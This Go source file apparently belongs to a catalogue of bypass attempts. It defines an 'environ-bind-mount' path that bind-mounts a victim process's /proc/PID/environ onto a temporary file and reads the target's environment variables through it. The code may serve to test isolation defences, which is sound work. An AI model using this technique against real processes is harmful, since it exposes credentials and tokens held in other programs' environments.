package accesspath

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
)

var environBindMount = Path{
	Name: "environ-bind-mount", Title: "/proc/P/environ bind-mounted onto a file", Kind: toEnviron,
	walk: func(a *attempt) ([]byte, error) {
		if err := kernel.PrivateMounts(); err != nil {
			return nil, err
		}
		return kernel.WithFolder(func(path string) ([]byte, error) {
			file := path + "/notes"
			if err := os.WriteFile(file, nil, 0o600); err != nil {
				return nil, err
			}
			defer os.Remove(file)
			if err := unix.Mount(kernel.Proc(a.victim.PID, "environ"), file, "", unix.MS_BIND, ""); err != nil {
				return nil, fmt.Errorf("mount: %w", err)
			}
			defer unix.Unmount(file, unix.MNT_DETACH)
			return kernel.ReadPath(file)
		})
	},
}
